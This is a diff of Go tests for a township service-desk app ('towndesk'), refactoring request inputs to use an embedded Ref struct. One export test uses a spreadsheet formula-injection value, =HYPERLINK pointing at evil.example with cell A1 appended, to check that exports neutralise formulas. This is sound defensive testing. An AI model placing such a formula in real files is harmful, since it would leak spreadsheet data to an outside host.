@@ -91,7 +91,7 @@ func TestDeskLifecycle(t *testing.T) {
 		t.Errorf("accepted: due %s status %s, want 2026-02-27 accepted", r.Request.Due, r.Request.Status)
 	}
 	step("assign", func() (*RequestReply, error) {
-		return d.Assign(ctx, RequestAssignInput{ID: id, By: "王芳", Assignee: "李娜"})
+		return d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: id, By: "王芳"}, Assignee: "李娜"})
 	})
 	clock.At("2026-02-24", 9)
 	move("in_progress", RequestMoveInput{})
@@ -106,10 +106,10 @@ func TestDeskLifecycle(t *testing.T) {
 	}
 
 	step("pay", func() (*RequestReply, error) {
-		return d.Pay(ctx, RequestPayInput{ID: id, By: "李娜", Type: "收取", Amount: "50", Receipt: "NO.001"})
+		return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: "收取", Amount: "50", Receipt: "NO.001"})
 	})
 	r = step("pay", func() (*RequestReply, error) {
-		return d.Pay(ctx, RequestPayInput{ID: id, By: "李娜", Type: "支付", Amount: "50.00", Note: "社保卡工本费"})
+		return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: "支付", Amount: "50.00", Note: "社保卡工本费"})
 	})
 	if r.Balance == nil || !r.Balance.Balanced() || r.Balance.Received != 5000 {
 		t.Errorf("after 收取 and 支付 50: balance %+v, want balanced with 收取 50.00", r.Balance)
@@ -118,14 +118,14 @@ func TestDeskLifecycle(t *testing.T) {
 	move("done", RequestMoveInput{Result: "社保卡已补办，交给本人"})
 
 	r = step("followup", func() (*RequestReply, error) {
-		return d.FollowUp(ctx, RequestFollowUpInput{ID: id, By: "王芳", Result: "不满意", Note: "卡面照片模糊"})
+		return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: id, By: "王芳"}, Result: "不满意", Note: "卡面照片模糊"})
 	})
 	if r.Request.Status != towndesk.StatusInProgress || r.Request.Reopened != 1 {
 		t.Errorf("followup 不满意: status %s reopened %d, want in_progress, 1", r.Request.Status, r.Request.Reopened)
 	}
 	move("done", RequestMoveInput{Result: "重新制卡"})
 	r = step("followup", func() (*RequestReply, error) {
-		return d.FollowUp(ctx, RequestFollowUpInput{ID: id, By: "王芳", Result: "满意"})
+		return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: id, By: "王芳"}, Result: "满意"})
 	})
 	if r.Request.Status != towndesk.StatusClosed || r.Request.FollowUp != towndesk.Satisfied || r.Request.EndedAt.IsZero() {
 		t.Errorf("followup 满意: %s %s ended %v, want closed 满意 with an end time", r.Request.Status, r.Request.FollowUp, r.Request.EndedAt)
@@ -195,14 +195,14 @@ func TestDeskInvalidInputsWriteNothing(t *testing.T) {
 	received := mustNew(t, d, validNew())
 	working := mustNew(t, d, validNew())
 	for _, to := range []string{"accepted", "in_progress"} {
-		if _, err := d.Move(ctx, RequestMoveInput{ID: working, By: "李娜", To: to}); err != nil {
+		if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: working, By: "李娜"}, To: to}); err != nil {
 			t.Fatal(err)
 		}
 	}
-	if _, err := d.Pay(ctx, RequestPayInput{ID: working, By: "李娜", Type: "收取", Amount: "80"}); err != nil {
+	if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "收取", Amount: "80"}); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := d.Pay(ctx, RequestPayInput{ID: working, By: "李娜", Type: "支付", Amount: "30.5"}); err != nil {
+	if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "支付", Amount: "30.5"}); err != nil {
 		t.Fatal(err)
 	}
 
@@ -219,7 +219,7 @@ func TestDeskInvalidInputsWriteNothing(t *testing.T) {
 	}
 	pay := func(amount string) func() error {
 		return call(func() (*RequestReply, error) {
-			return d.Pay(ctx, RequestPayInput{ID: working, By: "李娜", Type: "收取", Amount: amount})
+			return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "收取", Amount: amount})
 		})
 	}
 	move := func(id, to string, in RequestMoveInput) func() error {
@@ -248,7 +248,7 @@ func TestDeskInvalidInputsWriteNothing(t *testing.T) {
 		{"not a number", pay("五十"), towndesk.EINVALID, "不是数字"},
 		{"absurd amount", pay("100000000"), towndesk.EINVALID, "过大"},
 		{"unknown entry type", call(func() (*RequestReply, error) {
-			return d.Pay(ctx, RequestPayInput{ID: working, By: "李娜", Type: "退款", Amount: "5"})
+			return d.Pay(ctx, RequestPayInput{Ref: Ref{ID: working, By: "李娜"}, Type: "退款", Amount: "5"})
 		}), towndesk.EINVALID, "未知收支类型「退款」"},
 		{"disallowed move", move(received, "done", RequestMoveInput{Result: "x"}), towndesk.EINVALID,
 			"代办当前状态为「已登记」，不能转为「已办结」；可转为：已受理（accepted）、不予受理（rejected）、已撤销（cancelled）"},
@@ -259,35 +259,35 @@ func TestDeskInvalidInputsWriteNothing(t *testing.T) {
 		{"done while unbalanced", move(working, "done", RequestMoveInput{Result: "已办"}), towndesk.EINVALID,
 			"收支未平，不能办结：收取 80.00 元，支付 30.50 元，差额 49.50 元；领取 0.00 元，交付 0.00 元，差额 0.00 元"},
 		{"extend without reason", call(func() (*RequestReply, error) {
-			return d.Extend(ctx, RequestExtendInput{ID: working, By: "李娜", Days: 3})
+			return d.Extend(ctx, RequestExtendInput{Ref: Ref{ID: working, By: "李娜"}, Days: 3})
 		}), towndesk.EINVALID, "延期须写明理由"},
 		{"extend zero days", call(func() (*RequestReply, error) {
-			return d.Extend(ctx, RequestExtendInput{ID: working, By: "李娜", Days: 0, Reason: "x"})
+			return d.Extend(ctx, RequestExtendInput{Ref: Ref{ID: working, By: "李娜"}, Days: 0, Reason: "x"})
 		}), towndesk.EINVALID, "延期天数"},
 		{"extend before acceptance", call(func() (*RequestReply, error) {
-			return d.Extend(ctx, RequestExtendInput{ID: received, By: "李娜", Days: 3, Reason: "部门系统故障"})
+			return d.Extend(ctx, RequestExtendInput{Ref: Ref{ID: received, By: "李娜"}, Days: 3, Reason: "部门系统故障"})
 		}), towndesk.EINVALID, "只有已受理、尚未办结的代办才能延期"},
 		{"follow-up before done", call(func() (*RequestReply, error) {
-			return d.FollowUp(ctx, RequestFollowUpInput{ID: working, By: "王芳", Result: "满意"})
+			return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: working, By: "王芳"}, Result: "满意"})
 		}), towndesk.EINVALID, "当前状态为「办理中」"},
 		{"unknown follow-up result", call(func() (*RequestReply, error) {
-			return d.FollowUp(ctx, RequestFollowUpInput{ID: working, By: "王芳", Result: "很好"})
+			return d.FollowUp(ctx, RequestFollowUpInput{Ref: Ref{ID: working, By: "王芳"}, Result: "很好"})
 		}), towndesk.EINVALID, "回访结果「很好」无效"},
 		{"empty note", call(func() (*RequestReply, error) {
-			return d.Note(ctx, RequestNoteInput{ID: working, By: "王芳", Text: " "})
+			return d.Note(ctx, RequestNoteInput{Ref: Ref{ID: working, By: "王芳"}, Text: " "})
 		}), towndesk.EINVALID, "备注内容不能为空"},
 		{"assign to the current assignee twice", func() error {
-			if _, err := d.Assign(ctx, RequestAssignInput{ID: received, By: "王芳", Assignee: "赵六"}); err != nil {
+			if _, err := d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: received, By: "王芳"}, Assignee: "赵六"}); err != nil {
 				return err
 			}
-			_, err := d.Assign(ctx, RequestAssignInput{ID: received, By: "王芳", Assignee: "赵六"})
+			_, err := d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: received, By: "王芳"}, Assignee: "赵六"})
 			return err
 		}, towndesk.EINVALID, "已由 赵六 承办"},
 		{"unknown id", call(func() (*RequestReply, error) {
-			return d.Note(ctx, RequestNoteInput{ID: "2026-0999", By: "王芳", Text: "x"})
+			return d.Note(ctx, RequestNoteInput{Ref: Ref{ID: "2026-0999", By: "王芳"}, Text: "x"})
 		}), towndesk.ENOTFOUND, "没有编号为 2026-0999 的代办"},
 		{"stale version", call(func() (*RequestReply, error) {
-			return d.Note(ctx, RequestNoteInput{ID: working, By: "王芳", Text: "x", Version: 1})
+			return d.Note(ctx, RequestNoteInput{Ref: Ref{ID: working, By: "王芳", Version: 1}, Text: "x"})
 		}), towndesk.ECONFLICT, "该代办已被他人修改，请刷新后重试"},
 	}
 	for _, tt := range tests {
@@ -355,7 +355,7 @@ func TestDeskShowMasksAndRecordsReveal(t *testing.T) {
 	ctx := context.Background()
 	d, db, _ := newTestDesk(t)
 	id := mustNew(t, d, validNew())
-	if _, err := d.Note(ctx, RequestNoteInput{ID: id, By: "王芳", Text: "群众说换号了：13700001111"}); err != nil {
+	if _, err := d.Note(ctx, RequestNoteInput{Ref: Ref{ID: id, By: "王芳"}, Text: "群众说换号了：13700001111"}); err != nil {
 		t.Fatal(err)
 	}
 	show, err := d.Show(ctx, RequestShowInput{ID: id, By: "王芳"})
@@ -403,7 +403,7 @@ func TestDeskListFilters(t *testing.T) {
 	b := mustNew(t, d, other)
 	clock.At("2026-03-02", 9)
 	c := mustNew(t, d, validNew())
-	if _, err := d.Move(ctx, RequestMoveInput{ID: b, By: "李娜", To: "accepted"}); err != nil {
+	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: b, By: "李娜"}, To: "accepted"}); err != nil {
 		t.Fatal(err)
 	}
 	// b is due 2 working days after 03-02: 03-04. On 03-09 it is 3 working days late.
@@ -460,10 +460,10 @@ func TestDeskExport(t *testing.T) {
 	in.Village = "-前李村"
 	in.Matter = `=HYPERLINK("http://evil.example/?"&A1,"点我")`
 	id := mustNew(t, d, in)
-	if _, err := d.Move(ctx, RequestMoveInput{ID: id, By: "李娜", To: "accepted"}); err != nil {
+	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: "accepted"}); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := d.Pay(ctx, RequestPayInput{ID: id, By: "李娜", Type: "收取", Amount: "12.5", Note: "+1 元手续费 13812345678"}); err != nil {
+	if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: "收取", Amount: "12.5", Note: "+1 元手续费 13812345678"}); err != nil {
 		t.Fatal(err)
 	}
 	dir := t.TempDir()
@@ -594,7 +594,7 @@ func TestDeskConcurrentWorkers(t *testing.T) {
 	var wg sync.WaitGroup
 	for w := range workers {
 		wg.Go(func() {
-			_, err := d.Assign(ctx, RequestAssignInput{ID: id, By: "王芳", Assignee: fmt.Sprintf("工作人员%d", w), Version: 1})
+			_, err := d.Assign(ctx, RequestAssignInput{Ref: Ref{ID: id, By: "王芳", Version: 1}, Assignee: fmt.Sprintf("工作人员%d", w)})
 			errs <- err
 		})
 	}
@@ -651,13 +651,13 @@ func TestDeskReverse(t *testing.T) {
 	d, _, _ := newTestDesk(t)
 	id := mustNew(t, d, validNew())
 	for _, to := range []string{"accepted", "in_progress"} {
-		if _, err := d.Move(ctx, RequestMoveInput{ID: id, By: "李娜", To: to}); err != nil {
+		if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: to}); err != nil {
 			t.Fatal(err)
 		}
 	}
 	pay := func(typ, amount string) {
 		t.Helper()
-		if _, err := d.Pay(ctx, RequestPayInput{ID: id, By: "李娜", Type: typ, Amount: amount}); err != nil {
+		if _, err := d.Pay(ctx, RequestPayInput{Ref: Ref{ID: id, By: "李娜"}, Type: typ, Amount: amount}); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -669,11 +669,11 @@ func TestDeskReverse(t *testing.T) {
 		t.Fatal(err)
 	}
 	wrong := show.Entries[0].ID
-	if _, err := d.Move(ctx, RequestMoveInput{ID: id, By: "李娜", To: "done", Result: "已办好"}); err == nil {
+	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: "done", Result: "已办好"}); err == nil {
 		t.Fatal("done with 收取 220 and 支付 20 succeeded, want refused")
 	}
 	entry := fmt.Sprintf("#%d", wrong)
-	reply, err := d.Reverse(ctx, RequestReverseInput{ID: id, By: "王芳", Entry: entry, Reason: "金额录错，应为 20 元"})
+	reply, err := d.Reverse(ctx, RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: entry, Reason: "金额录错，应为 20 元"})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -684,10 +684,10 @@ func TestDeskReverse(t *testing.T) {
 		in   RequestReverseInput
 		code string
 	}{
-		{RequestReverseInput{ID: id, By: "王芳", Entry: entry, Reason: "再冲一次"}, towndesk.EINVALID},
-		{RequestReverseInput{ID: id, By: "王芳", Entry: "abc", Reason: "录错"}, towndesk.EINVALID},
-		{RequestReverseInput{ID: id, By: "王芳", Entry: "#99999", Reason: "录错"}, towndesk.ENOTFOUND},
-		{RequestReverseInput{ID: id, By: "王芳", Entry: fmt.Sprint(wrong + 1), Reason: ""}, towndesk.EINVALID},
+		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: entry, Reason: "再冲一次"}, towndesk.EINVALID},
+		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: "abc", Reason: "录错"}, towndesk.EINVALID},
+		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: "#99999", Reason: "录错"}, towndesk.ENOTFOUND},
+		{RequestReverseInput{Ref: Ref{ID: id, By: "王芳"}, Entry: fmt.Sprint(wrong + 1), Reason: ""}, towndesk.EINVALID},
 	} {
 		if _, err := d.Reverse(ctx, tt.in); towndesk.ErrorCode(err) != tt.code {
 			t.Errorf("Reverse(%q, %q) = %v, want %s", tt.in.Entry, tt.in.Reason, err, tt.code)
@@ -711,7 +711,7 @@ func TestDeskReverse(t *testing.T) {
 			t.Errorf("show lacks %q:\n%s", want, text)
 		}
 	}
-	if _, err := d.Move(ctx, RequestMoveInput{ID: id, By: "李娜", To: "done", Result: "已办好"}); err != nil {
+	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "李娜"}, To: "done", Result: "已办好"}); err != nil {
 		t.Errorf("done after the reversal: %v", err)
 	}
 
@@ -780,7 +780,7 @@ func TestChangeFollowsCard(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, err := d.Move(ctx, RequestMoveInput{ID: pending, By: "王芳", To: "已受理"}); err != nil {
+	if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: pending, By: "王芳"}, To: "已受理"}); err != nil {
 		t.Fatalf("Move(%s) = %v", pending, err)
 	}
 	if after, _ := db.Posts(ctx); len(after) != len(before)+2 || after[len(before)+1].Kind != storage.PostLine || after[len(before)+1].Channel != "C0DESKBH02" {
@@ -791,7 +791,7 @@ func TestChangeFollowsCard(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, id := range []string{withCard, without} {
-		if _, err := d.Move(ctx, RequestMoveInput{ID: id, By: "王芳", To: "已受理"}); err != nil {
+		if _, err := d.Move(ctx, RequestMoveInput{Ref: Ref{ID: id, By: "王芳"}, To: "已受理"}); err != nil {
 			t.Fatalf("Move(%s) = %v", id, err)
 		}
 	}
